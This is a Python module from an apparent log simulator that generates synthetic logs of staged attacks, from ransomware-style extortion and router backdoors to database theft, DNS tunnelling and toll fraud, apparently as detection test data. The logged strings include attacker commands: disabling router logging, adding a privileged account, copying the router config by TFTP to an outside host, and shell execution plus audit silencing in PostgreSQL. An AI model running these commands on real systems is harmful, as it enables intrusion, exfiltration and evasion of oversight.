"""Attacks on networks, machines and telephones, as their own logs show them; some go through several of them."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime
from random import Random

from connectors.simulator import leases
from connectors.simulator.applications import line
from connectors.simulator.infrastructure import JOBS, MACHINES, audit, camera, esx, vcenter, veeam
from connectors.simulator.network import call, firewall, query, router, surf, telephone, traffic, vpn
from connectors.simulator.stream import Line, later
from connectors.simulator.world import Person, World


def extortion(world: World, random: Random, at: datetime) -> Iterator[Line]:
    """A guessed VPN account, a firewall told to let all pass, backups removed, hypervisors opened, machines stopped."""
    who, ip = world.administrators[0], world.strangers[20]
    for _ in range(8):
        yield vpn(at, who.user, ip, "ssl-login-fail")
        at = later(at, random, 10, 40)
    yield vpn(at, who.user, ip, "tunnel-up")
    at = later(at, random, 400, 900)
    change = 'cfgpath="firewall.policy" cfgattr="srcaddr[all]dstaddr[all]action[accept]service[ALL]"'
    yield firewall(
        at, "0100044547", ("event", "system"), f'user="{who.user}" ui="GUI(10.55.224.9)" action="Add" {change}'
    )
    at = later(at, random, 600, 1_200)
    for job in JOBS[:3]:
        yield veeam(at, 23090, job, f"Backup job {job} has been deleted.", User=f"GIALAI\\{who.user}")
        at = later(at, random, 20, 60)
    yield veeam(at, 28200, JOBS[0], "Backup repository R1 has been deleted.", User=f"GIALAI\\{who.user}")
    for host in ("esx01", "esx02", "esx03"):
        at = later(at, random, 30, 90)
        yield esx(at, host, "esx.audit.ssh.enabled", "SSH access has been enabled.")
    for number, vm in enumerate(MACHINES, 9_000):
        at = later(at, random, 5, 20)
        yield vcenter(
            at, number, "VmPoweredOffEvent", f"{vm} on esx01 in DC1 is powered off", user=f"GIALAI\\{who.user}"
        )


def cameras(world: World, random: Random, at: datetime) -> Iterator[Line]:
    """A recorder's password is guessed, recordings leave, and the disk is formatted."""
    ip = world.strangers[21]
    for _ in range(9):
        yield camera(at, "nvr07", ("Exception", "Illegal Login"), "admin", ip)
        at = later(at, random, 5, 30)
    yield camera(at, "nvr07", ("Operation", "Remote: Login"), "admin", ip)
    at = later(at, random, 60, 200)
    yield camera(at, "nvr07", ("Operation", "Remote: Export Record File"), "admin", ip)
    yield traffic(later(at, random, 1, 20), "10.54.7.2", ip, 8_000, "close", way=("cam-07", "wan1"), sent=900_000_000)
    yield camera(later(at, random, 900, 2_000), "nvr07", ("Operation", "Remote: Format HDD"), "admin", ip)


def toll_fraud(world: World, random: Random, at: datetime) -> Iterator[Line]:
    """A telephone account is guessed and calls abroad all night."""
    ip = world.strangers[22]
    for _ in range(30):
        yield telephone(at, "InvalidPassword", "6017", ip)
        at = later(at, random, 3, 15)
    yield telephone(at, "SuccessfulAuth", "6017", ip)
    for _ in range(14):
        at = later(at, random, 60, 300)
        yield call(
            at, "6017", f"900{random.randrange(370, 380)}{random.randrange(10**7):07}", random.randrange(200, 2_000)
        )


def dns_tunnel(world: World, random: Random, at: datetime) -> Iterator[Line]:
    """A commune's computer sends files out inside of questions to the name server."""
    ip = world.staff[-2].ip
    for _ in range(160):
        yield query(at, ip, f"{random.getrandbits(200):050x}.cdn7.example", "TXT")
        at = later(at, random, 0.5, 6)


def worm(world: World, random: Random, at: datetime) -> Iterator[Line]:
    """Malware loaded from a bare address looks for other computers, and reaches those of another commune."""
    who = world.staff[-1]
    yield surf(at, who, f"http://{world.strangers[23]}/up/qlvb.exe", kind="application/octet-stream", size=812_331)
    at = later(at, random, 200, 600)
    for number in range(70):
        yield traffic(at, who.ip, f"10.55.{number % 16}.{number + 10}", 445, "deny")
        at = later(at, random, 0.5, 4)
    for number in range(3):
        at = later(at, random, 5, 60)
        yield traffic(at, who.ip, f"10.53.114.{20 + number}", 445, "close", way=("xa-113", "xa-114"), sent=90_000)


def router_door(world: World, random: Random, at: datetime) -> Iterator[Line]:
    """A commune's router is guessed; an account, a tunnel and silence are put in."""
    ip, device = world.staff[0].ip, "ce-xa113"
    for number in range(7):
        reason = "Login failed [user: admin] [Source: {}] [localport: 22] [Reason: Login Authentication Failed] at x"
        yield router(at, 9_100 + number, f"SEC_LOGIN-4-LOGIN_FAILED: {reason.format(ip)}", device)
        at = later(at, random, 10, 40)
    yield router(
        at, 9_110, f"SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: admin] [Source: {ip}] [localport: 22]", device
    )
    commands = (
        "no logging host 10.55.0.70",
        "username support privilege 15 secret 9 x",
        "interface Tunnel77",
        f"tunnel destination {world.strangers[24]}",
        f"do copy running-config tftp://{world.strangers[24]}/c",
    )
    for number, command in enumerate(commands, 9_111):
        at = later(at, random, 5, 30)
        yield router(at, number, f"PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:{command}", device)


def database_theft(world: World, random: Random, at: datetime) -> Iterator[Line]:
    """Past the application, somebody runs programs through the database, silences it and dumps it."""
    ip = world.staff[2 % len(world.staff)].ip
    yield audit(at, ("dvc_app", ip), ("WRITE", "COPY"), "copy t from program 'id; uname -a'")
    at = later(at, random, 30, 90)
    yield audit(at, ("dvc_app", ip), ("ROLE", "CREATE ROLE"), "create role support superuser login")
    at = later(at, random, 30, 90)
    yield audit(at, ("support", ip), ("MISC", "SET"), "set pgaudit.log = 'none'")
    at = later(at, random, 60, 200)
    yield audit(at, ("support", ip), ("READ", "COPY"), "copy public.applicants to stdout", program="pg_dump")


def false_app(world: World, random: Random, at: datetime) -> Iterator[Line]:
    """Several people follow a letter to a false tax site and load its app."""
    for who in world.staff[:3]:
        yield query(at, who.ip, "etax-thue.example")
        at = later(at, random, 1, 9)
        yield surf(
            at, who, "http://etax-thue.example/eTax.apk", kind="application/vnd.android.package-archive", size=9_112_000
        )
        at = later(at, random, 300, 2_000)


def false_router(world: World, random: Random, at: datetime) -> Iterator[Line]:
    """A machine takes all addresses of the DHCP server and answers in its place: others come with what it gave."""
    for _ in range(40):
        yield leases.line(at, f"DHCPDISCOVER from {leases.mac(random.randrange(256))} via eth0")
        at = later(at, random, 0.05, 0.6)
    for _ in range(20):
        asked = f"DHCPDISCOVER from {leases.mac(random.randrange(256))} via eth0"
        yield leases.line(at, f"{asked}: network 10.53.106.0/24: no free leases")
        at = later(at, random, 0.5, 4)
    for who in world.staff[:6]:
        asked = f"DHCPREQUEST for 10.88.88.{random.randrange(9, 200)} (10.88.88.1) from {leases.mac(who.number)}"
        yield leases.line(at, f"{asked} ({who.computer}) via eth0: ignored (not authoritative).")
        at = later(at, random, 20, 300)


def storage(world: World, random: Random, at: datetime) -> Iterator[Line]:
    """A visitor opens the machine room; snapshots go, and the time source."""
    visitor, admin = Person("visitor-77", 0, "NT.02", "-", "10.55.240.77"), world.administrators[1]
    yield line(at, "datacentre", visitor, "visitor", "door_open", door_id="D-2", card_id="c-77")
    at = later(at, random, 300, 900)
    yield line(at, "datacentre", visitor, "admin", "bmc_login", device="srv-17", default_password=True)
    for volume in ("v1", "v2", "v3"):
        at = later(at, random, 20, 90)
        yield line(at, "datacentre", admin, "admin", "delete_snapshot", device="san01", volume=volume)
    yield line(later(at, random, 60, 300), "datacentre", admin, "admin", "set_ntp", device="core1")
